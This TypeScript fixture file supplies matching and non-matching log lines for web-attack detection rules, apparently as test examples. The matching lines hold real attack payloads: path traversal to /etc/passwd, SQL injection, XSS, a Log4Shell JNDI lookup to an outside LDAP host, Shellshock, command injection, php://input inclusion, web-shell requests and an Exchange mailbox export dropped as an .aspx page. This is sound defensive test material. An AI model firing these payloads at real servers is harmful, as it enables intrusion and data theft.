import type { Examples } from "./example.ts";
import { line, lines, request, requests } from "./log-line.ts";

const exchange = (said: string) => ({
  event_type: "winsec",
  win_event_id: 1,
  provider: "MSExchange CmdletLogs",
  channel: "MSExchange Management",
  message: said,
});
const exported = (result: string, path: string) =>
  exchange(`${result}. Cmdlet New-MailboxExportRequest, parameters -FilePath "${path}".`);
const PAGE = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx";
const LOOKUP = "$\u007bjndi:ldap://198.51.100.5/a}";
const SHELLSHOCK = "() { :; }; /bin/bash -c id";
const modsecurity = (what: string) => line(`apache2: [client 203.0.113.9] ModSecurity: ${what}`);

/** Requests to web servers, and settings of mail servers. */
export const LOGS_WEB_EXAMPLES: Examples = {
  "logs.mailbox-exported-as-page": {
    hit: exported("Cmdlet succeeded", PAGE),
    miss: exported("Cmdlet failed", PAGE),
  },
  "logs.request-leaves-folder": requests("/a?page=..%2f..%2fetc/passwd", "/docs/../index.html"),
  "logs.request-with-sql": requests(
    "/item?id=1+UNION/**/SELECT+user+FROM+users",
    "/search?q=trade+union+elects+leader",
  ),
  "logs.request-with-script": requests("/a?q=%3Cscript%3Ealert(1)", "/static/script.js"),
  "logs.request-with-lookup": requests(`/a?q=${LOOKUP}`, "/a?q=jndi"),
  "logs.request-with-command": requests("/a?host=127.0.0.1;id", "/a?host=127.0.0.1&id=7"),
  "logs.request-with-code": requests("/a.php?f=php://input", "/a.php?f=input"),
  "logs.request-for-secrets": requests("/.git/config", "/shop.git/info/refs"),
  "logs.request-to-web-shell": requests("/uploads/a.php?cmd=id", "/uploads/a.jpg?c=1"),
  "logs.client-with-command": {
    hit: request("/cgi-bin/status", 200, SHELLSHOCK),
    miss: request("/cgi-bin/status", 200, "Mozilla/5.0 (Linux; U; id-ID)"),
  },
  "logs.request-turned-away": {
    hit: request("/.git/config", 404),
    miss: request("/.github/logo.png", 404),
  },
  "logs.client-turned-away": {
    hit: request("/cgi-bin/status", 403, SHELLSHOCK),
    miss: request("/cgi-bin/status", 403, "curl/8.5"),
  },
  "logs.scanner": {
    hit: request("/", 200, "Mozilla/5.00 (Nikto/2.1.6)"),
    miss: request("/nikto", 200, "Mozilla/5.0"),
  },
  "logs.firewall-of-web-refused": {
    hit: modsecurity("Access denied with code 403 (phase 2). Pattern match"),
    miss: modsecurity("StatusEngine call successfully sent."),
  },
  "logs.firewall-of-web-warned": {
    hit: modsecurity('Warning. detected SQLi [msg "SQL Injection Attack Detected"]'),
    miss: lines("", "apache2: ModSecurity for Apache/2.9.3 configured.").miss,
  },
};
